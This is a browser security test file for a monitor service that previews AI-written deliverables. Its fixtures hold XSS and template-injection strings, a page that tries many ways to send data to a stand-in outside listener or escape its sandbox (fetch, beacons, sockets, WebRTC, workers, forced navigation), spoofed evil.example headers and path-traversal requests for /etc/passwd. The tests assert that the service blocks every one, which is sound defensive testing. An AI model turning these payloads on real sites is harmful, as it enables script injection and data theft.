"""Attacks on the monitor: by other sites, by what models wrote, and by the deliverable's own scripts.

All of it meets the real service and a real Chromium. An outside world listens on ports of its own:
whatever reaches it got out.
"""

from __future__ import annotations

import json
import re
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import Browser, Page, expect

from matrioska.models.testing import ScriptedChatModel
from matrioska.orchestrator import MatrioskaOrchestrator
from matrioska.web.guard import cookie_value
from tests.browser import chromium
from tests.support import Author, file_block, plan, spec
from tests.web.whole import Whole, whole_service

THREAD = "hostile"
#: It would show itself at once if it were taken for markup, for a template, or for mermaid's language.
MARKUP = (
    "<img src=x onerror=\"document.title='owned'\"><script>document.title='owned'</script>"
    '{{constructor.constructor(\'document.title=1\')()}}"]; click a href "javascript:alert(1)" %%{init: {}}%% '
    "[x](javascript:alert(1)) `b` </pre></textarea><svg onload=document.title='owned'>"
)
#: What a deliverable tries. Each try ends in a word on the page, so that the test knows that it was made.
ATTACK = """<!doctype html><html><head><title>innocent</title>
<link rel="dns-prefetch" href="//OUTSIDE"><link rel="preconnect" href="http://OUTSIDE">
<link rel="prefetch" href="http://OUTSIDE/prefetch"><link rel="stylesheet" href="http://OUTSIDE/style.css">
<link rel="stylesheet" href="style.css"><script src="http://OUTSIDE/script.js"></script>
<style>@import "http://OUTSIDE/import.css"; body { background: url(http://OUTSIDE/pixel) }</style>
<script src="part.js"></script></head><body><pre id=shown></pre>
<img src="http://OUTSIDE/img"><img src="MONITOR/api/runs"><iframe src="MONITOR/monitor"></iframe>
<object data="http://OUTSIDE/object"></object><embed src="http://OUTSIDE/embed"><video poster="http://OUTSIDE/poster" src="http://OUTSIDE/v">
<track src="http://OUTSIDE/track"></video><input type=image src="http://OUTSIDE/input"><img attributionsrc="http://OUTSIDE/attribution" src="data:,">
<link rel=modulepreload href="http://OUTSIDE/module"><link rel=preload as=fetch href="http://OUTSIDE/preload"><link rel=manifest href="http://OUTSIDE/manifest">
<link rel=icon href="http://OUTSIDE/icon"><link rel=prerender href="http://OUTSIDE/prerender">
<script type=speculationrules>{"prefetch": [{"urls": ["http://OUTSIDE/speculated"], "eagerness": "immediate"}],
 "prerender": [{"urls": ["http://OUTSIDE/prerendered"], "eagerness": "immediate"}]}</script>
<a id=a target=_top href="http://OUTSIDE/top">x</a><a id=b ping="http://OUTSIDE/ping" href="#x">x</a>
<a id=d download href="data:text/plain,x">x</a>
<script>
const told = {};
const tell = (name, value) => { told[name] = String(value); shown.textContent = JSON.stringify(told); };
const attempt = (name, act) => { try { tell(name, act()); } catch (error) { tell(name, "refused"); } };
attempt("part", () => window.part);
attempt("origin", () => origin);
attempt("cookie", () => document.cookie);
attempt("parent", () => parent.document.title);
attempt("top", () => top.location.href);
attempt("frames", () => parent.frames.length > 1 && parent.frames[0].document.title);
attempt("navigate", () => { top.location = "http://OUTSIDE/top"; return "tried"; });
attempt("open", () => String(window.open("http://OUTSIDE/open")));
attempt("click", () => { a.click(); b.click(); d.click(); return "tried"; });
attempt("beacon", () => navigator.sendBeacon("http://OUTSIDE/beacon", "x"));
attempt("worker", () => { new Worker("data:text/javascript,fetch('http://OUTSIDE/worker')"); return "tried"; });
attempt("blob", () => { new Worker(URL.createObjectURL(new Blob(["fetch('http://OUTSIDE/blob')"]))); return "tried"; });
attempt("eval", () => eval("1 + 1"));
attempt("image", () => { new Image().src = "http://OUTSIDE/image"; return "tried"; });
attempt("script", () => { const s = document.createElement("script"); s.src = "MONITOR/api/runs"; document.body.append(s); return "tried"; });
attempt("events", () => { new EventSource("MONITOR/api/runs/hostile/events"); return "tried"; });
for (const [name, address] of Object.entries({ outside: "ws://OUTSIDE/", monitor: "WSMONITOR/monitor/_nicegui_ws/socket.io/?EIO=4&transport=websocket" }))
  attempt("socket " + name, () => { const s = new WebSocket(address); s.onopen = () => tell("socket " + name, "open");
    s.onerror = () => tell("socket " + name, "refused"); return "tried"; });
const get = (name, address, options) => fetch(address, options).then((r) => r.text()).then((t) => tell(name, t), () => tell(name, "refused"));
get("fetch outside", "http://OUTSIDE/fetch", { mode: "no-cors" });
get("fetch api", "MONITOR/api/runs", { credentials: "include" });
get("fetch api blind", "MONITOR/api/runs/hostile/stop", { method: "POST", mode: "no-cors", credentials: "include" });
get("fetch token", "MONITOR/monitor", { credentials: "include" });
get("fetch own", "style.css");
get("fetch up", "../../");
attempt("service worker", () => { navigator.serviceWorker.register("part.js").then(
  () => tell("service worker", "there"), () => tell("service worker", "refused")); return "tried"; });
attempt("shared worker", () => { new SharedWorker("http://OUTSIDE/shared"); return "tried"; });
attempt("transport", () => { const t = new WebTransport("https://OUTSIDE/transport");
  t.ready.catch(() => 0); t.closed.catch(() => 0); return "tried"; });
attempt("later", () => { fetchLater("http://OUTSIDE/later", { activateAfter: 0 }); return "tried"; });
attempt("font", () => { new FontFace("x", "url(http://OUTSIDE/font)").load().catch(() => 0); return "tried"; });
attempt("policy", () => { const m = document.createElement("meta"); m.httpEquiv = "Content-Security-Policy";
  m.content = "default-src *; report-uri http://OUTSIDE/report"; document.head.append(m); return "tried"; });
attempt("hints", () => { for (const rel of ["preconnect", "dns-prefetch", "prefetch", "preload", "next"]) {
  const l = document.createElement("link"); l.rel = rel; l.as = "image"; l.href = `http://${rel}.OUTSIDE/late`; document.head.append(l); }
  return "tried"; });
attempt("frame", () => { for (const src of ["data:text/html,<script>fetch('http://OUTSIDE/data')<\\/script>",
  URL.createObjectURL(new Blob(["<script>fetch('http://OUTSIDE/bloburl')<\\/script>"], { type: "text/html" }))]) {
  const f = document.createElement("iframe"); f.src = src; document.body.append(f); } return "tried"; });
attempt("wasm", () => { WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => tell("wasm", "ran"), () => tell("wasm", "refused")); return "tried"; });
attempt("name", () => window.name);
attempt("history", () => { history.pushState({}, "", "/elsewhere"); return "tried"; });
attempt("referrer", () => document.referrer);
attempt("ancestors", () => [...location.ancestorOrigins].join());
attempt("dialog", () => { alert(1); return String(confirm(1)); });
attempt("clipboard", () => { navigator.clipboard.readText().then((t) => tell("clipboard", t), () => tell("clipboard", "refused")); return "tried"; });
attempt("message", () => { parent.postMessage({ event: "run_javascript", code: "document.title='owned'" }, "*"); return "tried"; });
attempt("call", () => { CALL; return "tried"; });
setTimeout(() => tell("done", "yes"), 1500);
</script></body></html>"""
#: A call, which asks a server of its choice: past the policies of pages, and with words of its own.
CALL = (
    "{ const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:OUTSIDE' }, "
    "{ urls: 'turn:OUTSIDE?transport=tcp', username: 'words', credential: 'x' }] }); "
    "c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)); }"
)
#: What a page tries that leaves by itself: with nothing but its own address.
LEAVING = """<!doctype html><title>leaving</title><script>location = "http://OUTSIDE/leave?what=the+task"</script>"""
LEAVING_AS_DATA = """<!doctype html><script>location = "data:text/html,<script>fetch('http://OUTSIDE/asdata')<" + "/script>";
</script>"""
LEAVING_AS_BLOB = """<!doctype html><script>location = URL.createObjectURL(
new Blob(["<script>fetch('http://OUTSIDE/asblob')<" + "/script>"], { type: "text/html" }));</script>"""
REFRESHING = """<!doctype html><meta http-equiv=refresh content="0; url=http://OUTSIDE/refresh">"""
SENDING = """<!doctype html><form id=f method=post action="http://OUTSIDE/form"><input name=a value=b></form>
<script>f.submit()</script>"""
#: Windows of their own, in which calls are not taken away.
CALLING = """<!doctype html><iframe srcdoc="<script>CALL</script>"></iframe><iframe src="javascript:CALL"></iframe>
<iframe src="about:blank" onload="try { contentWindow.eval(`CALL`) } catch (e) {}"></iframe>"""
DRAWN = """<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("http://OUTSIDE/svg"); top.location = "http://OUTSIDE/svgtop"</script></svg>"""


class Outside:
    """A listener that notes whoever comes."""

    def __init__(self) -> None:
        self.came: list[bytes] = []
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.place = f"127.0.0.1:{self._socket.getsockname()[1]}"
        # What calls begin with comes as packets, to the same port.
        self._packets = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._packets.bind(self._socket.getsockname())
        for listen in (self._listen, self._take_packets):
            threading.Thread(target=listen, daemon=True).start()

    def _take_packets(self) -> None:
        while True:
            try:
                self.came.append(self._packets.recv(300))
            except OSError:
                return

    def _listen(self) -> None:
        while True:
            try:
                came, _ = self._socket.accept()
            except OSError:
                return
            with came:
                came.settimeout(1)
                try:
                    self.came.append(came.recv(300))
                    came.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
                except OSError:
                    self.came.append(b"")

    def close(self) -> None:
        # A thread that waits is not woken by a close alone.
        self._packets.sendto(b"", self._packets.getsockname())
        self._packets.close()
        self._socket.close()


@pytest.fixture
def outside() -> Iterator[Outside]:
    opened = Outside()
    yield opened
    opened.close()


@pytest.fixture
def browser() -> Iterator[Browser]:
    with chromium() as opened:
        yield opened


@pytest.fixture
def service(tmp_path: Path, outside: Outside) -> Iterator[Whole]:
    """A service over a run whose every text is markup and whose deliverable attacks."""
    with whole_service(tmp_path) as whole:
        _run_hostile(tmp_path, outside, whole)
        yield whole


def _run_hostile(base: Path, outside: Outside, whole: Whole) -> None:
    def aimed(page: str) -> str:
        socket_address = whole.url.replace("http", "ws", 1)
        return page.replace("WSMONITOR", socket_address).replace("MONITOR", whole.url).replace("OUTSIDE", outside.place)

    pages = {
        "index.html": ATTACK,
        "leaving.html": LEAVING,
        "leaving-as-data.html": LEAVING_AS_DATA,
        "leaving-as-blob.html": LEAVING_AS_BLOB,
        "refreshing.html": REFRESHING,
        "sending.html": SENDING,
        "calling.html": CALLING,
        "drawn.svg": DRAWN,
        "part.js": "window.part = 'loaded';",
        "style.css": "body { color: rgb(1, 2, 3) }",
        "notes.md": f"# Notes\n\n{MARKUP}",
    }
    module = spec("app", name=f"App {MARKUP}"[:200], description=MARKUP, rules=[MARKUP], outputs=["index.html"])
    module |= {"shared_state_writes": ["app.api"], "contract_first": False}
    other = spec("other", "app", name="Other", description=MARKUP, shared_state_reads=["app.api"])
    files = "\n\n".join(file_block(path, aimed(page)) for path, page in pages.items())
    contract = "\n\n```json contract\n" + json.dumps({"app.api": {"text": MARKUP, MARKUP[:60]: [MARKUP]}}) + "\n```"
    author = Author(
        plan(module, other, name=f"Project {MARKUP}"[:200], goal=MARKUP, constraints=[MARKUP]),
        told={
            "produce app": files + contract,
            "mend app": files + contract,
            "produce other": file_block("other.txt", MARKUP),
        },
    )
    run = MatrioskaOrchestrator(author.model, base_path=base)
    assert isinstance(author.model, ScriptedChatModel)
    report = run.run(f"Make something. {MARKUP}", thread_id=THREAD)
    assert report.deliverable is not None, report


def open_monitor(browser: Browser, service: Whole, path: str, faults: list[str]) -> Page:
    page = browser.new_context(viewport={"width": 1280, "height": 900}).new_page()
    page.set_default_timeout(20_000)
    expect.set_options(timeout=20_000)
    page.on("dialog", lambda dialog: faults.append(f"dialog {dialog.message}"))
    page.on("pageerror", lambda error: faults.append(f"uncaught {error}"))
    page.context.on("page", lambda opened: faults.append(f"opened {opened.url}"))
    page.goto(f"{service.url}/monitor{path}?token={service.token}")
    return page


def show_file(page: Page, path: str) -> None:
    page.get_by_test_id("tab-files").click()
    page.get_by_test_id("preview-file").click()
    page.get_by_role("option", name=f"app/{path}").click()


def test_a_deliverable_can_reach_nothing(browser: Browser, service: Whole, outside: Outside) -> None:
    faults: list[str] = []
    page = open_monitor(browser, service, f"/run/{THREAD}", faults)
    show_file(page, "index.html")
    frame = page.frame_locator('[data-testid="preview-frame"]')
    expect(frame.locator("#shown")).to_contain_text('"done":"yes"')
    told = json.loads(frame.locator("#shown").inner_text())
    assert told["part"] == "loaded"
    assert told["origin"] == "null"
    for name in ("cookie", "parent", "top", "fetch outside", "fetch api", "fetch api blind", "fetch token"):
        assert told[name] == "refused", name
    for name in ("fetch own", "fetch up", "socket outside", "socket monitor", "eval", "call"):
        assert told[name] == "refused", name
    for name in ("wasm", "service worker", "clipboard"):
        assert told[name] == "refused", name
    assert told["open"] == "null"
    assert told["referrer"] == ""
    colour = frame.locator("body").evaluate("body => getComputedStyle(body).color")
    assert colour == "rgb(1, 2, 3)", "the deliverable's own style was not loaded"
    ways = ("leaving.html", "leaving-as-data.html", "leaving-as-blob.html", "refreshing.html", "sending.html")
    for path in (*ways, "calling.html", "drawn.svg", "notes.md"):
        show_file(page, path)
        page.wait_for_timeout(1500)
    assert page.url == f"{service.url}/monitor/run/{THREAD}"
    assert outside.came == []
    assert "owned" not in page.title()
    # The scripts' own errors are told here, too.
    assert [fault for fault in faults if not fault.startswith("uncaught ")] == []


MODULE = f"/run/{THREAD}/module/app"


def test_markup_of_models_stays_text(browser: Browser, service: Whole) -> None:
    faults: list[str] = []
    for path in ("/", f"/run/{THREAD}", MODULE):
        page = open_monitor(browser, service, path, faults)
        expect(page.locator("main")).to_contain_text("onerror")
        for tab in page.locator('[data-testid^="tab-"]').all():
            tab.click()
            page.wait_for_timeout(400)
            _unfold(page)
            _assert_text_only(page)
        _unfold(page)
        _assert_text_only(page)
        page.context.close()
    assert faults == []


def _unfold(page: Page) -> None:
    for fold in page.locator(".fold > .q-expansion-item > .q-expansion-item__container > .q-item").all()[:12]:
        if fold.is_visible():
            fold.click()
    page.wait_for_timeout(500)


def _assert_text_only(page: Page) -> None:
    assert "owned" not in page.title()
    assert page.locator("main img, main script, main [onload], main [onerror]").count() == 0
    assert page.locator('a[href^="javascript:"]').count() == 0
    assert "onerror" in page.locator("main").inner_text(), "the hostile text is not on this page"


def test_markup_in_a_plan_that_is_edited_stays_text(browser: Browser, tmp_path: Path) -> None:
    author = Author(plan(spec("app", name=MARKUP[:200], description=MARKUP, rules=[MARKUP]), name=MARKUP[:200]))
    MatrioskaOrchestrator(author.model, base_path=tmp_path, approval="ask").run(MARKUP, thread_id=THREAD)
    with whole_service(tmp_path) as service:
        faults: list[str] = []
        page = open_monitor(browser, service, f"/run/{THREAD}", faults)
        page.get_by_test_id("plan-module-app").locator(".q-item").first.click()
        page.get_by_test_id("plan-field-dependencies").click()
        page.keyboard.press("Escape")
        page.get_by_test_id("plan-field-id").fill("<img src=x onerror=alert(1)>")
        expect(page.get_by_test_id("plan-complaints")).to_contain_text("onerror")
        _assert_text_only(page)
        assert faults == []


def test_another_site_gets_nothing_from_a_browser_that_is_signed_in(
    browser: Browser, service_once: Whole, outside: Outside
) -> None:
    service = service_once
    context = browser.new_context()
    page = context.new_page()
    page.goto(service.entrance)
    cookies = context.cookies()
    assert [cookie["httpOnly"] and cookie["sameSite"] == "Strict" for cookie in cookies] == [True]
    assert page.evaluate("document.cookie") == ""
    assert service.token not in page.content()
    other = context.new_page()
    # The same browser, another site: a port of this machine, where cookies would go along.
    other.goto(f"http://{outside.place}/")
    told = other.evaluate(
        """async ([api, ws]) => {
          const get = (options) => fetch(api + "/api/runs", options).then((r) => r.type + r.status, () => "refused");
          const socket = new Promise((done) => { const s = new WebSocket(ws); s.onopen = () => done("open");
            s.onerror = () => done("refused"); });
          return [await get({ credentials: "include" }), await get({ method: "POST", body: "{}", credentials: "include",
            headers: { "content-type": "application/json" } }), await socket];
        }""",
        [
            service.url,
            service.url.replace("http", "ws", 1) + "/monitor/_nicegui_ws/socket.io/?EIO=4&transport=websocket",
        ],
    )
    assert told == ["refused", "refused", "refused"]
    # What needs no permission to be loaded: the cookie goes along to every port of a host.
    loaded = other.evaluate(
        """async (api) => {
          const load = (tag, name) => new Promise((done) => { const e = document.createElement(tag);
            e.onload = () => done("loaded"); e.onerror = () => done("refused"); e[name] = api; document.body.append(e); });
          return [await load("img", "src"), await load("script", "src"),
            await fetch(api, { mode: "no-cors", credentials: "include" }).then((r) => r.type, () => "refused")];
        }""",
        f"{service.url}/monitor/assets/monitor.js",
    )
    assert loaded == ["refused", "refused", "refused"]
    other.set_content(f'<iframe src="{service.url}/monitor"></iframe>')
    other.wait_for_timeout(800)
    assert "Matrioska" not in (other.frames[1].content() if len(other.frames) > 1 else "")


@pytest.mark.parametrize(
    ("path", "headers", "status"),
    [
        ("/monitor", {}, 401),
        ("/monitor/", {}, 401),
        ("/monitor/run/hostile", {}, 401),
        ("/monitor/_nicegui_ws/socket.io/?EIO=4&transport=polling", {}, 401),
        ("/api/runs", {}, 401),
        ("/api/runs/hostile/archive", {}, 401),
        ("/api/runs", {"Host": "evil.example", "Authorization": "{bearer}"}, 421),
        ("/monitor", {"Host": "evil.example", "Cookie": "{cookie}"}, 421),
        ("/api/runs", {"Origin": "https://evil.example", "Authorization": "{bearer}"}, 403),
        ("/monitor", {"Origin": "null", "Cookie": "{cookie}"}, 403),
        ("/api/runs/hostile/files/..%2f..%2f..%2fetc%2fpasswd", {"Authorization": "{bearer}"}, 404),
        ("/api/runs/hostile/files/%2fetc%2fpasswd", {"Authorization": "{bearer}"}, 404),
        ("/api/runs/..%2f..%2fx/files/index.html", {"Authorization": "{bearer}"}, 404),
        ("/api/runs/%00", {"Authorization": "{bearer}"}, 404),
        ("/monitor/assets/..%2f..%2fguard.py", {"Authorization": "{bearer}"}, 404),
        ("/monitor/_nicegui/../../../etc/passwd", {"Authorization": "{bearer}"}, 404),
        ("/monitor/", {"Cookie": "{cookie}"}, 200),
        ("/api/runs", {"Authorization": "{bearer}"}, 200),
    ],
)
def test_strangers_and_climbers_are_turned_away(
    service_once: Whole, path: str, headers: dict[str, str], status: int
) -> None:
    port = service_once.url.rpartition(":")[2]
    told = {
        "bearer": service_once.bearer["Authorization"],
        "cookie": f"matrioska-{port}={cookie_value(service_once.token)}",
    }
    filled = {name: value.format(**told) for name, value in headers.items()}
    with httpx.Client(follow_redirects=True) as client:
        response = client.get(service_once.url + path, headers=filled)
    assert response.status_code == status
    assert "root:" not in response.text


@pytest.mark.parametrize(("name", "other"), [("127.0.0.1", "localhost"), ("localhost", "127.0.0.1")])
def test_a_page_frames_nothing_but_its_own_previews(service_once: Whole, name: str, other: str) -> None:
    port = service_once.url.rpartition(":")[2]
    headers = {**service_once.bearer, "Host": f"{name}:{port}"}
    policy = httpx.get(f"{service_once.url}/monitor/", headers=headers).headers["content-security-policy"]
    rules = dict(rule.split(" ", 1) for rule in policy.split("; "))
    assert re.fullmatch(rf"http://{re.escape(other)}:\d+", rules["frame-src"])
    assert rules["connect-src"] == rules["form-action"] == rules["default-src"] == "'self'"
    assert rules["frame-ancestors"] == rules["object-src"] == rules["base-uri"] == "'none'"


@pytest.fixture(scope="module")
def service_once(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Whole]:
    with whole_service(tmp_path_factory.mktemp("service")) as whole:
        yield whole


def test_a_files_own_address_is_never_a_page(service: Whole) -> None:
    for path in ("app/index.html", "app/drawn.svg", "app/notes.md"):
        response = httpx.get(f"{service.url}/api/runs/{THREAD}/files/{path}", headers=service.bearer)
        assert response.status_code == 200
        shown = response.headers["content-type"].split(";")[0]
        assert shown == "text/plain" or "attachment" in response.headers.get("content-disposition", "")
        assert response.headers["x-content-type-options"] == "nosniff"
